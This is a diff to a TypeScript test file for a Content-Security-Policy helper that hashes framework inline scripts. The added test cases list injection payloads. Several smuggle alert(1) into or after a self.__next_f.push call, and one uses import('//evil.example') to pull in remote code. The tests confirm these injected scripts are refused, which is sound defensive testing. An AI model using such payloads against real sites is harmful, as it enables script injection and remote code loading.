@@ -11,16 +11,28 @@ function directive(policy: string, name: string): string[] {
   return found?.split(' ').slice(1) ?? [];
 }
 
-test('inline scripts are allowed by their hashes, data blocks and files are not asked about', () => {
+test('inline scripts of ours are allowed by their hashes, data blocks and files are not asked about', () => {
+  const [one, two] = ['self.__next_f.push([1,"a(b)\\u003c"])', '(self.__next_f=self.__next_f||[]).push([0])'];
   const html =
-    '<script>one()</script><script type="application/ld+json">{"a":1}</script>' +
-    '<script src="/a.js" async=""></script><script id="x">two()</script><script>one()</script>';
-  expect(scriptHashes(html)).toEqual([sha('one()'), sha('two()')]);
+    `<script>${one}</script><script type="application/ld+json">{"a":1}</script>` +
+    `<script src="/a.js" async=""></script><script id="x">${two}</script><script>${one}</script>`;
+  expect(scriptHashes(html)).toEqual([sha(one), sha(two)]);
+});
+
+test.each([
+  'alert(1)',
+  'self.__next_f.push([0]);alert(1)',
+  'self.__next_f.push([0],alert(1))',
+  'self.__next_f.push(alert(1))',
+  'self.__next_f.push([0])\nalert(1)//)',
+  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(import("//evil.example"))',
+])('a script that content brought along is not allowed: %s', (code) => {
+  expect(scriptHashes(`<script>${code}</script>`)).toEqual([]);
 });
 
 test('without configuration nothing outside the site is reached', () => {
-  const policy = contentSecurityPolicy('<script>one()</script>', parseEnvironment({}));
-  expect(directive(policy, 'script-src')).toEqual(["'self'", sha('one()')]);
+  const policy = contentSecurityPolicy('<script>self.__next_f.push([0])</script>', parseEnvironment({}));
+  expect(directive(policy, 'script-src')).toEqual(["'self'", sha('self.__next_f.push([0])')]);
   expect(directive(policy, 'frame-src')).toEqual(["'none'"]);
   expect(directive(policy, 'form-action')).toEqual(["'self'"]);
   expect(directive(policy, 'frame-ancestors')).toEqual(["'none'"]);
